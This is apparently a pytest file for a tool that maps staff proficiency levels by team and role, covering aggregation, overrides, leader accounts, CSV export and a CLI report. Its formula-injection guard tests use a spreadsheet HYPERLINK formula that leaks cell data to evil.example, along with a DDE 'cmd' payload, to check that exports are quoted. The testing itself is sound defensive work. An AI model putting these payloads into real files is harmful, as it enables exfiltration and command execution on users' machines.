"""The proficiency map: the pure aggregation on hand-made rows, the decided level winning, the map
agreeing with person_portfolio, leader accounts, CSV formula guards and `reviewer report teams`
on a real SQLite file."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from typer.testing import CliRunner

from reviewer.accounts import AccountError, create_user
from reviewer.cli import app as cli
from reviewer.rubric import PortfolioRule
from reviewer.service import Item, decide, person_portfolio, submit
from reviewer.teams import (
    BELOW_HEADER,
    MAP_HEADER,
    PersonLevel,
    below_csv,
    build_map,
    heat,
    map_csv,
    person_levels,
    proficiency_map,
)

SAMPLES = Path(__file__).parent / "samples"
ONELINER = (SAMPLES / "l1-prompt-oneliner.txt").read_text()          # the rules judge: level 1
CREW = (SAMPLES / "l5-agent-config-crewai-guardrails.yaml").read_text()
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
runner = CliRunner()


def rows(*people):
    """Hand-made latest_by_person rows: (person, team, role, [(level, confidence), ...])."""
    return [{"id": i, "person": p, "team": t, "role": r, "level": lv, "confidence": c, "dimensions": {}}
            for i, (p, t, r, reviews) in enumerate(people) for lv, c in reviews]


def parse(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


# ---------------------------------------------------------------- pure aggregation

def test_person_levels_follow_the_portfolio_rule(roles):
    rule = PortfolioRule(rule="highest_confident", min_confidence=0.6, dimensions="max")
    people = person_levels(rows(("ana@x", "care", "analyst", [(2, 0.9), (5, 0.4), (3, 0.7)]),
                                ("bo@x", "care", "analyst", [(1, 0.2), (2, 0.3), (4, 0.5)]),
                                ("cy@x", None, None, [(6, 0.9)])), rule, roles)
    # ana: the highest confident level (3, not the unconfident 5); bo: none confident, the low median (2)
    assert [(p.person, p.level, p.target, p.below) for p in people] == [
        ("ana@x", 3, 4, 1), ("bo@x", 2, 4, 2), ("cy@x", 6, None, 0)]


def _people():
    return [PersonLevel(person=p, team=t, role=r, target=target, level=lv) for p, t, r, target, lv in [
        ("ana@x", "care", "analyst", 4, 2), ("bo@x", "care", "analyst", 4, 4), ("cy@x", "care", "analyst", 4, 1),
        ("dee@x", "care", "analyst", 4, 5), ("eli@x", "care", "software_engineer", 5, 5),
        ("fay@x", "sales", "analyst", 4, 3), ("gus@x", "sales", "analyst", 4, 3), ("hal@x", None, "analyst", 4, 1),
        ("ida@x", "sales", None, None, 2)]]


def test_the_map_counts_people_per_level_with_the_share_at_target_and_who_is_furthest_below(roles):
    m = build_map(_people(), roles)
    assert [(r.team, r.role) for r in m.rows] == [("care", "analyst"), ("care", "software_engineer"),
                                                  ("sales", "analyst"), ("sales", None), (None, "analyst")]
    care = m.rows[0]
    assert care.counts == [1, 1, 0, 1, 1, 0] and care.people == 4 and care.target == 4
    assert care.at_target == 2 and care.share == 0.5
    assert [(p.person, p.below) for p in care.below] == [("cy@x", 3), ("ana@x", 2)]  # furthest first
    assert care.role_name == roles.get("analyst").name
    assert m.rows[2].share == 0 and [p.person for p in m.rows[2].below] == ["fay@x", "gus@x"]  # ties by email
    no_role = m.rows[3]
    assert no_role.target is None and no_role.at_target is None and no_role.share is None and no_role.below == []
    assert m.teams == ["care", "sales"] and m.roles == ["analyst", "software_engineer"] and m.peak == 2


def test_scope_and_filters(roles):
    m = build_map(_people(), roles, scope=["sales"])
    assert {r.team for r in m.rows} == {"sales"} and m.teams == ["sales"] and m.roles == ["analyst"]
    m = build_map(_people(), roles, scope=["sales"], team="care")  # a team outside the scope shows nothing
    assert m.rows == [] and m.teams == ["sales"] and m.peak == 0
    m = build_map(_people(), roles, role="analyst")
    assert [r.team for r in m.rows] == ["care", "sales", None] and m.teams == ["care", "sales"]
    m = build_map(_people(), roles, team="care", role="software_engineer")
    assert [(r.team, r.role, r.counts) for r in m.rows] == [("care", "software_engineer", [0, 0, 0, 0, 1, 0])]


def test_heat_buckets():
    assert [heat(n, 8) for n in (0, 1, 2, 3, 4, 5, 8)] == [0, 1, 1, 2, 2, 3, 4]
    assert heat(1, 1) == 4


def test_csv_has_a_header_one_row_per_team_and_role_and_the_people_below(roles):
    m = build_map(_people(), roles)
    table = parse(map_csv(m))
    assert table[0] == MAP_HEADER and len(table) == 1 + len(m.rows)
    assert table[1] == ["care", "analyst", "Analyst / researcher", "4", "4", "1", "1", "0", "1", "1", "0", "2", "0.50"]
    assert table[4][:4] == ["sales", "", "", ""] and table[4][-2:] == ["", ""]  # no target: no share
    below = parse(below_csv(m))
    assert below[0] == BELOW_HEADER
    assert [r[2] for r in below[1:]] == ["cy@x", "ana@x", "fay@x", "gus@x", "hal@x"]
    assert below[1] == ["care", "analyst", "cy@x", "1", "4", "3"]


@pytest.mark.parametrize("team", [FORMULA, "+1+2", "-2+3", "@SUM(A1:A9)", "=cmd|' /C calc'!A0"])
def test_csv_cells_that_start_like_a_formula_are_quoted(roles, team):
    people = [PersonLevel(person="@ana@x", team=team, role="analyst", target=4, level=1)]
    m = build_map(people, roles)
    for table in (parse(map_csv(m)), parse(below_csv(m))):
        for cell in table[1]:
            assert not cell.startswith(("=", "+", "-", "@")), cell
        assert table[1][0].startswith("'") and table[1][0][1:].replace("\\|", "|") == team
    assert parse(below_csv(m))[1][2] == "'@ana@x"


# ---------------------------------------------------------------- against a real store

@pytest.fixture
def org(store, ctx):
    """Five people in two teams (and one without), scored by the rules judge; ana's one-liner gets
    a coach's override later. Returns their review ids by person."""
    ids = {}
    for person, team, role, texts in [("ana@example.com", "care", "analyst", [ONELINER]),
                                      ("bo@example.com", "care", "analyst", [CREW, ONELINER]),
                                      ("cy@example.com", "care", "software_engineer", [ONELINER]),
                                      ("dee@example.com", FORMULA, "analyst", [ONELINER]),
                                      ("eve@example.com", None, None, [CREW])]:
        ids[person] = submit(store, ctx, [Item(data=t) for t in texts], person=person, role=role, team=team,
                             channel="cli")
    return ids


def _people_rows(store, ctx):
    from reviewer.listings import latest_by_person

    return [{"person": p.person, "level": p.level}
            for p in person_levels(latest_by_person(store), ctx.rubric.portfolio, ctx.roles)]


def test_a_coach_override_changes_the_map_and_the_csv(store, ctx, org):
    [ana_review] = org["ana@example.com"]
    before = proficiency_map(store, ctx, team="care", role="analyst").rows[0]
    assert before.counts[0] >= 1 and "ana@example.com" in [p.person for p in before.below]
    decide(store, ctx, ana_review, actor="coach@example.com", action="override", level=4, reason="the prompt names sources")
    after = proficiency_map(store, ctx, team="care", role="analyst").rows[0]
    assert after.counts[0] == before.counts[0] - 1 and after.counts[3] == before.counts[3] + 1
    assert "ana@example.com" not in [p.person for p in after.below]
    assert after.at_target == before.at_target + 1
    table = parse(map_csv(proficiency_map(store, ctx, team="care", role="analyst")))
    assert table[1][MAP_HEADER.index("level_4")] == str(after.counts[3])
    assert store.review_row(ana_review)["level"] == 1  # the judge's level is kept; the map shows the decided one
    decide(store, ctx, ana_review, actor="coach@example.com", action="override", level=2, reason="second look")
    row = proficiency_map(store, ctx, team="care", role="analyst").rows[0]
    assert [(p.person, p.level) for p in row.below if p.person == "ana@example.com"] == [("ana@example.com", 2)]
    below = parse(below_csv(proficiency_map(store, ctx, team="care")))
    assert ["care", "analyst", "ana@example.com", "2", "4", "2"] in below  # the latest override wins


def test_the_map_and_person_portfolio_agree_for_every_person(store, ctx, org):
    [ana_review] = org["ana@example.com"]
    decide(store, ctx, ana_review, actor="coach@example.com", action="override", level=3, reason="r")
    decide(store, ctx, org["bo@example.com"][0], actor="coach@example.com", action="override", level=2, reason="r")
    people = {p["email"] for p in store.query("SELECT email FROM people")}
    levels = {row["person"]: row["level"] for row in _people_rows(store, ctx)}
    assert set(levels) == people and len(people) == 5
    for email in people:
        assert person_portfolio(store, ctx, email).level == levels[email], email
    assert levels["ana@example.com"] == 3
    counted = proficiency_map(store, ctx)
    assert sum(r.people for r in counted.rows) == 5


# ---------------------------------------------------------------- leader accounts

def test_a_leader_needs_teams_and_only_a_leader_has_them(store):
    with pytest.raises(AccountError, match="needs the teams"):
        create_user(store, "lea@example.com", "leader", "lea-password-1")
    with pytest.raises(AccountError, match="only leaders"):
        create_user(store, "cy@example.com", "coach", "cy-password-333", teams="care")
    with pytest.raises(AccountError, match="over 100 characters"):
        create_user(store, "lea@example.com", "leader", "lea-password-1", teams="x" * 101)
    user_id = create_user(store, "lea@example.com", "leader", "lea-password-1", teams=" care, sales ,care,")
    assert store.leader_teams(user_id) == {user_id: ["care", "sales"]}
    assert store.user("lea@example.com")["role"] == "leader"
    [entry] = [e for e in store.audit_entries("user", user_id) if e["action"] == "user_add"]
    assert entry["detail"]["teams"] == ["care", "sales"]


def test_user_add_leader_from_the_cli(settings, store):
    r = runner.invoke(cli, ["user", "add", "lea@example.com", "--role", "leader", "--teams", "care,sales",
                            "--db", str(settings.db)])
    assert r.exit_code == 0 and "created lea@example.com (leader)" in r.output, r.output
    user = store.user("lea@example.com")
    assert store.leader_teams(user["id"])[user["id"]] == ["care", "sales"]
    r = runner.invoke(cli, ["user", "add", "leo@example.com", "--role", "leader", "--db", str(settings.db)])
    assert r.exit_code == 2 and "needs the teams" in r.output and store.user("leo@example.com") is None


# ---------------------------------------------------------------- reviewer report teams

def test_report_teams_in_the_terminal_and_as_csv(settings, store, ctx, org):
    decide(store, ctx, org["ana@example.com"][0], actor="coach@example.com", action="override", level=5, reason="r")
    db = ["--db", str(settings.db)]
    r = runner.invoke(cli, ["report", "teams", *db], env={"COLUMNS": "200"})
    assert r.exit_code == 0, r.output
    assert "care" in r.output and "analyst" in r.output and "software_engineer" in r.output and "no team" in r.output
    assert "cy@example.com" in r.output  # furthest below target in their row
    r = runner.invoke(cli, ["report", "teams", "--csv", *db])
    table = parse(r.output)
    assert r.exit_code == 0 and table[0] == MAP_HEADER
    by_row = {(t[0], t[1]): t for t in table[1:]}
    assert set(by_row) == {("care", "analyst"), ("care", "software_engineer"), ("'" + FORMULA, "analyst"), ("", "")}
    assert by_row[("care", "analyst")][MAP_HEADER.index("level_5")] == "1"  # ana's decided level
    r = runner.invoke(cli, ["report", "teams", "--csv", "--team", "care", "--role", "analyst", *db])
    assert [t[:2] for t in parse(r.output)[1:]] == [["care", "analyst"]]
    r = runner.invoke(cli, ["report", "teams", "--csv", "--below", "--team", "care", *db])
    below = parse(r.output)
    assert below[0] == BELOW_HEADER and ["care", "software_engineer", "cy@example.com", "1", "5", "4"] in below
    assert "ana@example.com" not in r.output  # overridden to 5, above the analyst target
    r = runner.invoke(cli, ["report", "teams", "--team", "nobody", *db])
    assert r.exit_code == 0 and "matches these filters" in r.output
    r = runner.invoke(cli, ["report", "teams", "--below", "--team", "care", *db], env={"COLUMNS": "200"})
    assert "cy@example.com" in r.output and "levels below" in r.output


def test_report_teams_on_an_empty_database(settings):
    r = runner.invoke(cli, ["report", "teams", "--db", str(settings.db)])
    assert r.exit_code == 0 and "No one with a reviewed artifact yet." in r.output
    r = runner.invoke(cli, ["report", "teams", "--csv", "--db", str(settings.db)])
    assert parse(r.output) == [MAP_HEADER]


def test_a_leaders_team_names_are_redacted_as_peoples_are():
    from reviewer.accounts import leader_teams
    from reviewer.service import free_text

    name = "ops of jane.doe@example.com"
    assert leader_teams([name], "leader") == [free_text(name, 100)]
    assert "jane.doe@example.com" not in leader_teams([name], "leader")[0]
